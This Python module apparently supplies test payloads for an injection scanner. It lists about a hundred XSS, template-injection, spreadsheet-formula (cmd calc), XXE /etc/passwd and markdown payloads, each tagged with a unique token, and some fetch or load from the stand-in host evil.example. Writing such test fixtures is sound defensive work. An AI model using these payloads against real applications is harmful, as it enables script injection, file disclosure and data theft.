"""A hundred hostile texts; § stands where each bears the token by which it is found again.

A payload that came to life would open a dialog, change the title, ask another host, or say 49.
"""

from __future__ import annotations

EVIL = "evil.example"

SCRIPTS = (
    "<script>alert('§')</script>",
    '<ScRiPt>alert("§")</sCrIpT>',
    "<script>document.title='§'</script>",
    f"<script>fetch('https://{EVIL}/§')</script>",
    f"<script src=//{EVIL}/§.js></script>",
    f"<script type=module>import('//{EVIL}/§')</script>",
    "<script/§ src=data:,alert(1)></script>",
    "<<script>alert('§')//<</script>",
    "</script><script>alert('§')</script>",
    "</title><script>alert('§')</script>",
    "</style><script>alert('§')</script>",
    "</textarea><script>alert('§')</script>",
    "--><script>alert('§')</script>",
    "]]><script>alert('§')</script>",
    "</main></body></html><script>alert('§')</script>",
    "<svg><script>alert('§')</script></svg>",
)
ELEMENTS = (
    "<img src=x onerror=alert('§')>",
    '<img src="x" onerror="document.title=\'§\'">',
    "<img/src=x/onerror=alert('§')>",
    f"<img src=//{EVIL}/§.png>",
    f'<img srcset="//{EVIL}/§.png 2x">',
    "<image href=x onerror=alert('§')>",
    "<svg onload=alert('§')>",
    "<svg/onload=alert('§')//",
    "<svg><animate onbegin=alert('§') attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=alert('§')></foreignObject></svg>",
    f"<svg><image href=//{EVIL}/§.svg></svg>",
    "<math><mtext><mglyph><style><img title=\"</style><img src=x onerror=alert('§')>\">",
    "<body onload=alert('§')>",
    "<iframe src=\"javascript:alert('§')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert('§')</script>\"></iframe>",
    f"<object data=//{EVIL}/§></object>",
    f"<embed src=//{EVIL}/§>",
    "<video><source onerror=alert('§')></video>",
    "<audio src=x onerror=alert('§')>",
    "<details open ontoggle=alert('§')>",
    "<input autofocus onfocus=alert('§')>",
    "<form action=\"javascript:alert('§')\"><button autofocus>§</button></form>",
    "<a href=\"javascript:alert('§')\">§</a>",
    "<a href=\" java&#115;cript:alert('§')\">§</a>",
    f"<link rel=stylesheet href=//{EVIL}/§.css>",
    f"<style>@import '//{EVIL}/§.css';</style>",
    f'<meta http-equiv=refresh content="0;url=//{EVIL}/§">',
    f"<base href=//{EVIL}/§/>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('§')>\">",
    f'<div style="background:url(//{EVIL}/§.png)">§</div>',
    "<marquee onstart=alert('§')>§</marquee>",
    "<template><img src=x onerror=alert('§')></template>",
)
ATTRIBUTES = (
    "\" onmouseover=\"alert('§')",
    "' onmouseover='alert(\"§\")",
    "\"><script>alert('§')</script>",
    "'><img src=x onerror=alert('§')>",
    "\" autofocus onfocus=alert('§') x=\"",
    "\"/><svg onload=alert('§')>",
    "`onmouseover=alert('§')`",
    f'§" http-equiv="refresh" content="0;url=//{EVIL}/§',
    "x onload=alert('§') ",
)
ADDRESSES = (
    "javascript:alert('§')",
    "JaVaScRiPt:alert('§')",
    "javascript&colon;alert('§')",
    "data:text/html,<script>alert('§')</script>",
    "vbscript:msgbox('§')",
    f"//{EVIL}/§",
    f"https://{EVIL}/§",
    f"https://www.example.org@{EVIL}/§",
    f"https://{EVIL}/§?a=b&onerror=alert(1)",
    f"https://{EVIL}/{{{{7*7}}}}§",
    f"https://{EVIL}/javascript:alert(1)#§",
)
TEMPLATES = (
    "{{7*7}}§",
    "{{ 7*7 }}§",
    "§{{7*7}}",
    "{% print(7*7) %}§",
    "{% set x = 7*7 %}{{x}}§",
    "${7*7}§",
    "#{7*7}§",
    "<%= 7*7 %>§",
    "{{''.__class__.__mro__}}§",
    '{% include "/etc/passwd" %}§',
    "%(§)s %s %d {0} {§}",
)
MARKDOWN = (
    "[§](javascript:alert('§'))",
    f"![§](//{EVIL}/§.png)",
    "<javascript:alert('§')>",
    "§ {: onclick=\"alert('§')\" }",
    "`<img src=x onerror=alert('§')>`",
    f'[§](https://{EVIL}/§ "x\\" onmouseover=alert(1)")',
)
ENCODED = (
    "&#60;script&#62;alert('§')&#60;/script&#62;",
    "&lt;img src=x onerror=alert('§')&gt;",
    "\\u003cscript\\u003ealert('§')\\u003c/script\\u003e",
    "%3Cscript%3Ealert('§')%3C/script%3E",
    "+ADw-script+AD4-alert('§')+ADw-/script+AD4-",
    "＜script＞alert('§')＜/script＞",
    "<scr\u200bipt>alert('§')</script>",
    "<img src=x\fonerror=alert('§')>",
)
OTHER_FORMS = (
    '=HYPERLINK("https://' + EVIL + '/§","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0 §",
    "-2+3+cmd|' /C calc'!A0 §",
    "§\nBEGIN:VEVENT\nSUMMARY:§\nEND:VEVENT",
    '§"},{"x":"§',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>§&y;',
    "';alert('§');//",
)

PAYLOADS = (
    *SCRIPTS,
    *ELEMENTS,
    *ATTRIBUTES,
    *ADDRESSES,
    *TEMPLATES,
    *MARKDOWN,
    *ENCODED,
    *OTHER_FORMS,
)

LEADING = frozenset(number for number, text in enumerate(PAYLOADS) if text in (*ADDRESSES, *OTHER_FORMS))
"""Those that do harm only where they stand first: addresses, formulas, lines of a calendar."""


def token(field: int, payload: int) -> str:
    """What tells one pair of field and payload from every other: letters and digits that no page holds."""
    return f"q{field}w{payload}z"


def hostile(field: int, payload: int) -> str:
    return PAYLOADS[payload].replace("§", token(field, payload))
